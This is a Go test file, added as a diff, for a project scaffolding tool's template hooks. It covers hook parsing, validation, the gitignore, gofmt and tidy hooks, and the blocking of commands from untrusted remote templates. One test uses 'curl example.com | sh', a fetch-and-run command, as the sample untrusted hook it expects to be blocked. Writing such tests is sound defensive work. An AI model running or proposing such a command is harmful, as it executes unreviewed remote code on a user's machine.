@@ -0,0 +1,244 @@
+package main
+
+import (
+	"encoding/json"
+	"errors"
+	"os"
+	"os/exec"
+	"path"
+	"path/filepath"
+	"slices"
+	"strings"
+	"testing"
+)
+
+func TestHookJSON(t *testing.T) {
+	tests := []struct {
+		json string
+		want []Hook
+	}{
+		{json: `["git-init", "gofmt"]`, want: []Hook{{Step: "git-init"}, {Step: "gofmt"}}},
+		{json: `[{"run": "make assets"}]`, want: []Hook{{Run: "make assets"}}},
+		{json: `[{"step": "gitignore"}, "gofmt", {"run": "code ."}]`, want: []Hook{{Step: "gitignore"}, {Step: "gofmt"}, {Run: "code ."}}},
+	}
+	for _, tt := range tests {
+		var got []Hook
+		if err := json.Unmarshal([]byte(tt.json), &got); err != nil {
+			t.Errorf("unmarshal %s: %v", tt.json, err)
+			continue
+		}
+		if !slices.Equal(got, tt.want) {
+			t.Errorf("unmarshal %s = %+v, want %+v", tt.json, got, tt.want)
+		}
+
+		// Steps are written back as names, commands as objects
+		data, err := json.Marshal(got)
+		if err != nil {
+			t.Fatal(err)
+		}
+		var again []Hook
+		if err := json.Unmarshal(data, &again); err != nil || !slices.Equal(again, tt.want) {
+			t.Errorf("round trip of %s through %s = %+v, %v", tt.json, data, again, err)
+		}
+	}
+
+	var hooks []Hook
+	for _, invalid := range []string{`[42]`, `[["gofmt"]]`, `[{"run": 1}]`} {
+		if err := json.Unmarshal([]byte(invalid), &hooks); err == nil {
+			t.Errorf("unmarshal %s succeeded, want an error", invalid)
+		}
+	}
+	if data, _ := json.Marshal([]Hook{{Step: "gofmt"}, {Run: "ls"}}); string(data) != `["gofmt",{"run":"ls"}]` {
+		t.Errorf("marshal = %s", data)
+	}
+}
+
+func TestValidateHooks(t *testing.T) {
+	tests := []struct {
+		hooks []Hook
+		err   string // part of the error, empty when valid
+	}{
+		{hooks: nil},
+		{hooks: []Hook{{Step: "git-init"}, {Step: "gitignore"}, {Step: "gofmt"}, {Step: "tidy-all-modules"}, {Run: "echo hi"}}},
+		{hooks: []Hook{{Step: "git-int"}}, err: `unknown hook "git-int" (available: git-init, gitignore, gofmt, tidy-all-modules)`},
+		{hooks: []Hook{{}}, err: "a hook is either a step name or"},
+		{hooks: []Hook{{Step: "gofmt", Run: "gofmt -w ."}}, err: "a hook is either a step name or"},
+	}
+	for _, tt := range tests {
+		err := validateHooks("template.json", tt.hooks)
+		switch {
+		case tt.err == "" && err != nil:
+			t.Errorf("validateHooks(%+v): %v", tt.hooks, err)
+		case tt.err != "" && (err == nil || !strings.Contains(err.Error(), tt.err)):
+			t.Errorf("validateHooks(%+v) = %v, want an error containing %q", tt.hooks, err, tt.err)
+		}
+	}
+}
+
+func TestGitignoreHook(t *testing.T) {
+	files := func(paths ...string) []plannedFile {
+		var planned []plannedFile
+		for _, p := range paths {
+			planned = append(planned, plannedFile{Path: p})
+		}
+		return planned
+	}
+	tests := []struct {
+		name     string
+		plan     *projectPlan
+		binaries []string
+	}{
+		{
+			name:     "single module",
+			plan:     &projectPlan{ModulePath: "github.com/me/my-game", Files: files("main.go", "scenes/scene.go")},
+			binaries: []string{"/my-game"},
+		},
+		{
+			name: "workspace",
+			plan: &projectPlan{
+				ModulePath: "github.com/me/net",
+				GoModules:  []string{"client", "server", "shared", "standalone"},
+				Files:      files("client/main.go", "server/main.go", "shared/scenes/scene.go", "standalone/main.go"),
+			},
+			binaries: []string{"/client/client", "/server/server", "/standalone/standalone"},
+		},
+	}
+	for _, tt := range tests {
+		dir := t.TempDir()
+		detail, err := gitignoreHook(&hookRun{dir: dir, plan: tt.plan})
+		if err != nil || detail != "wrote .gitignore" {
+			t.Errorf("%s: gitignoreHook = %q, %v", tt.name, detail, err)
+			continue
+		}
+		content, err := os.ReadFile(filepath.Join(dir, ".gitignore"))
+		if err != nil {
+			t.Fatal(err)
+		}
+		var binaries []string
+		for _, line := range strings.Split(string(content), "\n") {
+			if strings.HasPrefix(line, "/") {
+				binaries = append(binaries, line)
+			}
+		}
+		if !slices.Equal(binaries, tt.binaries) {
+			t.Errorf("%s: .gitignore ignores binaries %q, want %q:\n%s", tt.name, binaries, tt.binaries, content)
+		}
+		if !strings.Contains(string(content), "*.exe\n") {
+			t.Errorf("%s: .gitignore doesn't ignore Windows binaries:\n%s", tt.name, content)
+		}
+
+		// A .gitignore of the user's is kept
+		_, err = gitignoreHook(&hookRun{dir: dir, plan: tt.plan})
+		var skipped hookSkipped
+		if !errors.As(err, &skipped) {
+			t.Errorf("%s: second gitignoreHook = %v, want it skipped", tt.name, err)
+		}
+	}
+}
+
+func TestGofmtHookOnlyFormatsWrittenFiles(t *testing.T) {
+	if _, err := exec.LookPath("gofmt"); err != nil {
+		t.Skip("gofmt is not installed")
+	}
+	dir := t.TempDir()
+	unformatted := "package main\nfunc  f( ) {}\n"
+	for _, name := range []string{"written.go", "users.go"} {
+		if err := os.WriteFile(filepath.Join(dir, name), []byte(unformatted), 0644); err != nil {
+			t.Fatal(err)
+		}
+	}
+
+	detail, err := gofmtHook(&hookRun{dir: dir, plan: &projectPlan{}, written: []string{"written.go", "README.md"}, merge: true})
+	if err != nil || detail != "formatted 1 file(s)" {
+		t.Errorf("gofmtHook = %q, %v", detail, err)
+	}
+	if content, _ := os.ReadFile(filepath.Join(dir, "users.go")); string(content) != unformatted {
+		t.Errorf("a file the generation didn't write was formatted:\n%s", content)
+	}
+	if content, _ := os.ReadFile(filepath.Join(dir, "written.go")); string(content) == unformatted {
+		t.Error("the written file wasn't formatted")
+	}
+
+	_, err = gofmtHook(&hookRun{dir: dir, plan: &projectPlan{}, written: []string{"README.md"}})
+	var skipped hookSkipped
+	if !errors.As(err, &skipped) {
+		t.Errorf("gofmtHook without written Go files = %v, want it skipped", err)
+	}
+}
+
+func TestTidyHookSkips(t *testing.T) {
+	var skipped hookSkipped
+	if _, err := tidyHook(&hookRun{dir: t.TempDir(), plan: &projectPlan{Offline: true}}); !errors.As(err, &skipped) {
+		t.Errorf("tidyHook offline = %v, want it skipped", err)
+	}
+	if _, err := tidyHook(&hookRun{dir: t.TempDir(), plan: &projectPlan{}, merge: true}); !errors.As(err, &skipped) {
+		t.Errorf("tidyHook with --merge = %v, want it skipped", err)
+	}
+}
+
+func TestProjectHooksUntrusted(t *testing.T) {
+	config := t.TempDir()
+	t.Setenv("XDG_CONFIG_HOME", config)
+	writeTree(t, config, map[string]string{"bappacreate/config.json": `{"hooks": ["gofmt", {"run": "make assets"}]}`})
+	manifest := &TemplateManifest{Hooks: []Hook{{Step: "git-init"}, {Run: "make assets"}, {Run: "curl example.com | sh"}}}
+
+	if got := untrustedCommands(manifest, templateOptions{}); got != nil {
+		t.Errorf("the commands of a built-in or installed template are untrusted: %q", got)
+	}
+	untrusted := untrustedCommands(manifest, templateOptions{Repo: "https://example.com/templates.git"})
+	if want := []Hook{{Run: "make assets"}, {Run: "curl example.com | sh"}}; !slices.Equal(untrusted, want) {
+		t.Errorf("untrustedCommands = %q, want %q", untrusted, want)
+	}
+
+	// The user's config runs its own commands, even when the template has them too
+	hooks, blocked, err := projectHooks(manifest, untrusted)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if want := []Hook{{Step: "git-init"}, {Run: "make assets"}, {Step: "gofmt"}}; !slices.Equal(hooks, want) {
+		t.Errorf("hooks = %q, want %q", hooks, want)
+	}
+	if want := []Hook{{Run: "curl example.com | sh"}}; !slices.Equal(blocked, want) {
+		t.Errorf("blocked = %q, want %q", blocked, want)
+	}
+}
+
+// TestAllowHooks generates a --template-dir template with a command hook, which
+// only runs with --allow-hooks but is listed by --dry-run either way
+func TestAllowHooks(t *testing.T) {
+	if _, err := exec.LookPath("sh"); err != nil {
+		t.Skip("sh is not installed")
+	}
+	t.Setenv("XDG_CONFIG_HOME", t.TempDir())
+	templates := t.TempDir()
+	writeTree(t, templates, map[string]string{
+		"template.json": strings.TrimSuffix(testManifestJSON("arena"), "}") + `, "hooks": [{"run": "touch ran"}]}`,
+		"main.go":       "package main\n\nfunc main() {}\n",
+	})
+	t.Chdir(t.TempDir())
+
+	for _, allow := range []bool{false, true} {
+		name := "me/blocked"
+		if allow {
+			name = "me/allowed"
+		}
+		opts := projectOptions{Name: name, Templates: templateOptions{Dir: templates}, Deps: dependencyOptions{Offline: true}, AllowHooks: allow}
+		if err := createProject(opts); err != nil {
+			t.Fatal(err)
+		}
+		if ran := fileExists(filepath.Join(path.Base(name), "ran")); ran != allow {
+			t.Errorf("with --allow-hooks=%v the template's command ran: %v", allow, ran)
+		}
+	}
+
+	names, err := resolveProjectNames("me/game", "")
+	if err != nil {
+		t.Fatal(err)
+	}
+	plan := &projectPlan{ProjectDir: names.Dir, BlockedHooks: []Hook{{Run: "touch ran"}}}
+	var b strings.Builder
+	printPlan(&b, plan)
+	if !strings.Contains(b.String(), "Template commands not run (run them with --allow-hooks):\n  touch ran\n") {
+		t.Errorf("the dry run doesn't list the blocked command:\n%s", b.String())
+	}
+}